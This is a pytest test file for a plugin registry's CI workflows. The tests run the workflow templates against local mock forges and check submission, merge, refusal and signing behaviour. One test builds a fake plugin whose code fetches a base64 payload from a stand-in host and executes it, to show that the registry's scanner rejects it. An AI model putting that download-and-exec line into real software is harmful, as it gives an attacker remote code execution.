"""The workflows that come with a registry: their own shell steps, on forges of the loopback."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Callable, Mapping
from contextlib import AbstractContextManager
from pathlib import Path
from typing import Any

import pytest
from ruamel.yaml import YAML

from tests import forgekit
from tests.flows.kit import Ended, Machine, Registry
from tests.forgekit import TOKEN, ForgeServer
from tests.gitkit import fsck, git

ROOT = Path(__file__).resolve().parents[2]
TEMPLATES = ROOT / "templates" / "registry"
KINDS = {"github": forgekit.github, "forgejo": forgekit.forgejo, "gitlab": forgekit.gitlab}
LATER = str(1_767_225_600 + 30 * 86400)
needs_shell = pytest.mark.skipif(sys.platform == "win32", reason="workflows run on Linux")
pytestmark = needs_shell


def steps_of(file: Path) -> list[tuple[str, Mapping[str, str]]]:
    """Every shell step of a workflow, an action or a GitLab job file, with its environment."""
    found = YAML(typ="safe").load(file.read_text("utf-8"))
    if "runs" in found:
        steps = found["runs"]["steps"]
    elif "jobs" in found:
        steps = [step for job in found["jobs"].values() for step in job["steps"]]
    else:
        steps = []
    return [(step["run"], step.get("env", {})) for step in steps if "run" in step]


def gitlab_script(job: str) -> list[tuple[str, Mapping[str, str]]]:
    """The lines of a job of GitLab's file."""
    found = YAML(typ="safe").load((TEMPLATES / ".gitlab-ci.yml").read_text("utf-8"))
    return [(line, {}) for line in found[job]["script"]]


def filled(text: str, values: Mapping[str, str]) -> str:
    """The expressions of a step's environment as the forge would fill them in."""
    return re.sub(r"\$\{\{\s*([\w.]+)\s*\}\}", lambda match: values[match[1]], text)


class Runner:
    """What runs a workflow: a fresh folder, a PATH with the program, nothing to install.

    A plugin's own tests are told to be fine: they are other stories.
    """

    def __init__(self, root: Path) -> None:
        self.folder = root / "runner"
        self.work = self.folder / "work"
        self.work.mkdir(parents=True)
        tools = self.folder / "bin"
        tools.mkdir()
        self.tool(
            tools / "heimnetz-git", f'[ "$1" = test ] || exec {sys.executable} -m heimnetz_git "$@"'
        )
        self.tool(tools / "sudo", 'test "$1" = apt-get')
        self.tool(tools / "python", 'test "$1 $2 $3" = "-m pip install"')
        self.environ = {
            "PATH": f"{tools}{os.pathsep}{os.environ['PATH']}",
            "HOME": str(self.folder),
            "PYTHONPATH": str(ROOT),
            "HEIMNETZ_GIT_HOME": str(self.folder / "home"),
            "GITHUB_STEP_SUMMARY": str(self.folder / "summary.md"),
            "SOURCE_DATE_EPOCH": LATER,
        }

    @staticmethod
    def tool(path: Path, line: str) -> None:
        """A program on the PATH."""
        path.write_text(f"#!/bin/sh\n{line}\n")
        path.chmod(0o755)

    def run(self, steps: list[tuple[str, Mapping[str, str]]], values: Mapping[str, str]) -> Ended:
        """The steps one after the other, until one fails; as forges start a shell."""
        out = err = ""
        for text, environ in steps:
            given = {name: filled(value, values) for name, value in environ.items()}
            done = subprocess.run(
                ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", text],
                cwd=self.work, env={**self.environ, **given, **values_of_gitlab(values)},
                capture_output=True, text=True, check=False, timeout=120,
            )  # fmt: skip
            out, err = out + done.stdout, err + done.stderr
            if done.returncode:
                return Ended(done.returncode, out, err)
        return Ended(0, out, err)

    def verdict(self) -> dict[str, Any]:
        """What the check left behind."""
        found: dict[str, Any] = json.loads((self.work / "verdict.json").read_text())
        return found


def values_of_gitlab(values: Mapping[str, str]) -> dict[str, str]:
    """The variables among the values, as GitLab sets them."""
    return {name: value for name, value in values.items() if name.isupper()}


def check_and_merge(kind: str) -> tuple[Any, Any]:
    """The shell steps of both jobs of a forge."""
    if kind == "gitlab":
        return gitlab_script("check"), gitlab_script("merge")
    folder = TEMPLATES / f".{kind}" / "workflows"
    return steps_of(folder / "check.yml"), steps_of(folder / "merge.yml")


def values(forge: ForgeServer, number: int, head: str, *, token: str = "") -> dict[str, str]:
    """What a forge knows about a pull request."""
    project = f"{forge.address}/acme/plugins"
    return {
        "github.server_url": forge.address,
        "github.repository": "acme/plugins",
        "github.event.pull_request.number": str(number),
        "github.event.pull_request.head.sha": head,
        "github.event.pull_request.user.login": "ada",
        "github.event.pull_request.user.id": "4711",
        "github.token": token,
        "secrets.HEIMNETZ_TOKEN": token,
        "inputs.version": "",
        "inputs.token": token,
        "HEIMNETZ_TOKEN": token,
        "CI_MERGE_REQUEST_PROJECT_URL": project,
        "CI_PROJECT_URL": project,
        "CI_MERGE_REQUEST_IID": str(number),
        "CI_COMMIT_SHA": head,
    }


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Registry:
    """A registry with a clock, made once."""
    registry = Registry(tmp_path_factory.mktemp("made") / "plugins.git")
    registry.publish("clock", "1.0.0")
    return registry


Served = Callable[[str], AbstractContextManager[ForgeServer]]


@pytest.fixture
def served(made: Registry, tmp_path: Path) -> Served:
    """Serves a copy of the registry as a forge of some kind."""
    made.copy(tmp_path / "acme")
    return lambda kind: forgekit.forge(tmp_path, KINDS[kind])


@pytest.fixture
def ada(tmp_path: Path) -> Machine:
    """Ada's machine, with her token."""
    return Machine(tmp_path / "ada-machine", {"HEIMNETZ_TOKEN": TOKEN})


@pytest.fixture
def runner(tmp_path: Path) -> Runner:
    """A machine of the forge's CI."""
    return Runner(tmp_path)


@pytest.mark.parametrize(
    "kind",
    [
        "github",
        pytest.param("forgejo", marks=pytest.mark.slow),
        pytest.param("gitlab", marks=pytest.mark.slow),
    ],
)
def test_a_submission_is_checked_and_merged_by_the_workflows(
    served: Served, ada: Machine, made: Registry, runner: Runner, kind: str
) -> None:
    """Published by Ada, checked without a secret, merged by a token, and installed by a user."""
    check, merge = check_and_merge(kind)
    with served(kind) as forge:
        sent = ada.ask("publish", made.wheel("lamp"), "--to", forge.url())
        head = sent["submission"]["head"]
        assert [one["state"] for one in ada.ask("submissions", forge.url())["submissions"]] == [
            "ready"
        ]
        ended = runner.run(check, values(forge, 1, head))
        assert ended.code == 0, ended
        assert (runner.verdict()["verdict"], runner.verdict()["head"]) == ("accepted", head)
        assert TOKEN not in ended.out + ended.err

        waits = runner.run(merge, values(forge, 1, head, token=TOKEN))
        assert "check has not ended" in waits.out
        forge.statuses[head] = "success"
        done = runner.run(merge, values(forge, 1, head, token=TOKEN))
        assert "Merged lamp 1.0.0" in done.out, done
        assert forge.pulls[0]["state"] == "closed"
        assert forge.comments == [(1, forge.comments[0][1])]
        assert "lamp 1.0.0" in forge.comments[0][1]
        ada.do("index", "add", "acme", forge.url())
        ada.do("install", "lamp", "--yes")
        assert ada.versions == {"lamp": "1.0.0"}
    fsck(forge.root / "acme/plugins.git")


def test_the_actions_run_what_the_workflows_run() -> None:
    """The composite actions and the templates have the same shell steps, but for the version."""
    for action, workflow in (("check-submission", "check"), ("merge-submissions", "merge")):
        steps = steps_of(ROOT / ".github/actions" / action / "action.yml")
        wanted = steps_of(TEMPLATES / ".github/workflows" / f"{workflow}.yml")
        assert [text.replace("$VERSION", "") for text, _ in steps] == [text for text, _ in wanted]


def test_the_check_holds_no_power() -> None:
    """Read-only, no secret, no event that brings one; the merge runs on nobody's event."""
    yaml = YAML(typ="safe")
    check = yaml.load((TEMPLATES / ".github/workflows/check.yml").read_text("utf-8"))
    merge = yaml.load((TEMPLATES / ".github/workflows/merge.yml").read_text("utf-8"))
    assert list(check["on"]) == ["pull_request"]
    assert check["permissions"] == merge["permissions"] == {}
    assert check["jobs"]["check"]["permissions"] == {"contents": "read"}
    assert set(merge["on"]) == {"schedule", "workflow_dispatch"}
    assert "secrets." not in (TEMPLATES / ".github/workflows/check.yml").read_text("utf-8")


def push_pull(forge: ForgeServer, ada: Machine, files: Mapping[str, str], branch: str) -> str:
    """A pull request that a stranger made with plain git; its commit."""
    clone = ada.root / "clone"
    environ = {**ada.environ, "GIT_CONFIG_GLOBAL": os.devnull}

    def run(*words: str) -> str:
        done = subprocess.run(
            ["git", "-c", "user.name=Eve", "-c", "user.email=eve@example.org", *words],
            cwd=clone if clone.exists() else ada.root, env=environ, capture_output=True, text=True,
            check=False,
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        return done.stdout

    run("clone", "-q", str(forge.root / "acme/plugins.git"), str(clone))
    for name, text in files.items():
        (clone / name).parent.mkdir(parents=True, exist_ok=True)
        (clone / name).write_text(text)
    run("add", "-A", "-f")
    run("commit", "-q", "-m", "x")
    head = run("rev-parse", "HEAD").strip()
    run("push", "-q", "origin", f"HEAD:refs/heads/{branch}")
    forgekit.forge_pull(forge, "acme/plugins", branch, "Publish clock 2.0.0", "trust me")
    return head


def test_a_pull_request_that_changes_the_workflows_is_refused(
    served: Served, ada: Machine, runner: Runner
) -> None:
    """By the check, with annotations; by the merge too, whatever the forge says of the check."""
    check, merge = check_and_merge("github")
    with served("github") as forge:
        before = forge.head_of("acme/plugins", "main")
        files = {".github/workflows/merge.yml": "on: push\njobs: {}\n"}
        head = push_pull(forge, ada, files, "submit/clock/2.0.0")
        ended = runner.run(check, values(forge, 1, head))
        assert ended.code == 9, ended
        assert "::error file=.github/workflows/merge.yml" in ended.out
        assert "Refused" in (runner.folder / "summary.md").read_text()
        forge.statuses[head] = "success"
        done = runner.run(merge, values(forge, 1, head, token=TOKEN))
        assert "waits: The law" in done.out
        assert forge.head_of("acme/plugins", "main") == before
        assert forge.pulls[0]["state"] == "open"


def test_a_commit_that_was_replaced_is_not_checked(
    served: Served, ada: Machine, made: Registry, runner: Runner
) -> None:
    """The verdict would be about another commit than the one that is there now."""
    check, _ = check_and_merge("github")
    with served("github") as forge:
        old = ada.ask("publish", made.wheel("lamp"), "--to", forge.url())["submission"]["head"]
        ada.do("publish", made.wheel("lamp", summary="Another"), "--to", forge.url())
        assert ada.ask("submissions", forge.url())["submissions"][0]["head"] != old
        ended = runner.run(check, values(forge, 1, old))
        assert ended.code == 3
        assert "pushed again" in ended.err


def test_what_the_scanner_rejects_is_not_merged(
    served: Served, ada: Machine, made: Registry, runner: Runner
) -> None:
    """Even where nobody looked at the check's verdict."""
    code = (
        '"""A plugin."""\n\nimport base64\nimport urllib.request\n\n'
        'exec(base64.b64decode(urllib.request.urlopen("https://example.invalid/x").read()))\n'
    )
    check, merge = check_and_merge("github")
    with served("github") as forge:
        wheel = made.wheel("lamp", files={"lamp/__init__.py": code})
        head = ada.ask("publish", wheel, "--to", forge.url())["submission"]["head"]
        ended = runner.run(check, values(forge, 1, head))
        assert ended.code == 9, ended
        rules = {one["rule"] for one in runner.verdict()["findings"]}
        assert "scanner-reject" in rules
        forge.statuses[head] = "success"
        done = runner.run(merge, values(forge, 1, head, token=TOKEN))
        assert "scanner says reject" in done.out
        assert "lamp" not in git(forge.root / "acme/plugins.git", "ls-tree", "-r", "main")


def test_a_maintainers_approval_counts_for_one_commit(
    served: Served, ada: Machine, made: Registry, runner: Runner
) -> None:
    """What is held is taken in once a maintainer approved exactly that commit; a push voids it."""
    _, merge = check_and_merge("github")
    policy = b"format: 1\nmaintainers: [max]\n"
    with served("github") as forge:
        Registry(forge.root / "acme/plugins.git").put({"policy.yaml": policy})
        for summary, approve_now in (("A clock", False), ("Another clock", True)):
            wheel = made.wheel("clocks", summary=summary)
            head = ada.ask("publish", wheel, "--to", forge.url())["submission"]["head"]
            forge.statuses[head] = "success"
            done = runner.run(merge, values(forge, 1, head, token=TOKEN))
            assert "waits: " in done.out, done
            user = {"login": "max", "id": 1}
            approval = {"user": user, "state": "APPROVED", "commit_id": head}
            forge.reviews[:] = [approval]
            if approve_now:
                done = runner.run(merge, values(forge, 1, head, token=TOKEN))
                assert "Merged clocks 1.0.0" in done.out, done
        said = git(forge.root / "acme/plugins.git", "log", "-1", "--format=%B", "main")
    assert "Override: name-similar by max" in said


@pytest.mark.parametrize(
    "kind",
    [
        "github",
        pytest.param("forgejo", marks=pytest.mark.slow),
        pytest.param("gitlab", marks=pytest.mark.slow),
    ],
)
def test_a_tag_is_published_by_the_authors_workflow(
    served: Served, ada: Machine, runner: Runner, kind: str
) -> None:
    """What ``init --ci`` wrote is run as the forge would: checked, built, signed, submitted."""
    ada.do("new", "bell", "--type", "utility", "--author", "Ada", "--email", "ada@example.org")
    project = ada.work / "bell"
    with served(kind) as forge:
        made = ada.ask("init", "bell", "--ci", kind, "--to", forge.url())
        again = ada.ask("init", "bell", "--ci", kind, "--to", forge.url())
        assert made["file"] == again["file"]
        assert TOKEN not in (project / made["file"]).read_text()
        commit = tagged(ada, project, forge.root / "ada" / "bell.git")
        if kind != "forgejo":
            shutil.copytree(project, runner.work, dirs_exist_ok=True)
        known = released(forge, commit, signing_key(ada.root))
        if kind == "gitlab":
            found = YAML(typ="safe").load((project / made["file"]).read_text("utf-8"))
            ended = runner.run([(line, {}) for line in found["release"]["script"]], known)
        else:
            ended = runner.run(steps_of(project / made["file"]), known)
        assert ended.code == 0, ended
        assert TOKEN not in ended.out + ended.err
        waiting = ada.ask("submissions", forge.url())["submissions"]
        assert [one["name"] for one in waiting] == ["bell"]
        head = waiting[0]["head"]
        source = forge.root / ("ada/plugins.git" if kind == "github" else "acme/plugins.git")
        said = git(source, "show", head)
    assert re.search(rf"source:.*{commit}.*tag: v0.1.0", said, re.DOTALL), said
    assert "BEGIN SSH SIGNATURE" in said


def signing_key(folder: Path) -> str:
    """A new SSH private key."""
    key = folder / "key"
    words = ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)]
    subprocess.run(words, check=True, capture_output=True)
    return key.read_text()


def tagged(ada: Machine, project: Path, target: Path) -> str:
    """The project as a repository with a tag, pushed to ``target``; the tag's commit."""
    target.parent.mkdir(parents=True, exist_ok=True)
    environ = {**os.environ, "GIT_CONFIG_GLOBAL": os.devnull}

    def run(*words: str) -> str:
        names = ["-c", "user.name=Ada", "-c", "user.email=ada@example.org"]
        done = subprocess.run(
            ["git", *names, *words], cwd=project, env=environ, capture_output=True, text=True,
            check=False,
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        return done.stdout.strip()

    run("init", "-q", "--bare", str(target))
    run("init", "-q")
    run("add", "-A")
    run("commit", "-q", "-m", "bell")
    run("tag", "v0.1.0")
    run("push", "-q", str(target), "v0.1.0")
    return run("rev-parse", "HEAD")


def released(forge: ForgeServer, commit: str, key: str) -> dict[str, str]:
    """What a forge knows when a tag is pushed."""
    return {
        "github.server_url": forge.address,
        "github.repository": "ada/bell",
        "github.sha": commit,
        "github.ref_name": "v0.1.0",
        "github.token": "",
        "secrets.HEIMNETZ_TOKEN": TOKEN,
        "secrets.HEIMNETZ_SIGNING_KEY": key,
        "HEIMNETZ_TOKEN": TOKEN,
        "HEIMNETZ_FORK": "",
        "HEIMNETZ_SIGNING_KEY": key,
        "CI_PROJECT_URL": f"{forge.address}/ada/bell",
        "CI_COMMIT_SHA": commit,
        "CI_COMMIT_TAG": "v0.1.0",
    }


def test_a_workflow_that_is_there_is_not_written_over(ada: Machine) -> None:
    """Nor one where there is no project, nor a token in an address."""
    ada.do("new", "bell", "--type", "utility", "--author", "Ada")
    file = ada.work / "bell/.gitlab-ci.yml"
    file.write_text("mine: {}\n")
    assert ".gitlab-ci.yml" in ada.refuse(2, "init", "bell", "--ci", "gitlab")["message"]
    assert file.read_text() == "mine: {}\n"
    ada.refuse(3, "init", ".", "--ci", "github")
    for odd in (
        "https://ada:hunter2@example.org/a/b.git",
        "https://example.org/${{x}}/b",
        "/folder",
    ):
        ada.refuse(2, "init", "bell", "--ci", "github", "--to", odd)
    assert not (ada.work / "bell/.github/workflows/release.yml").exists()
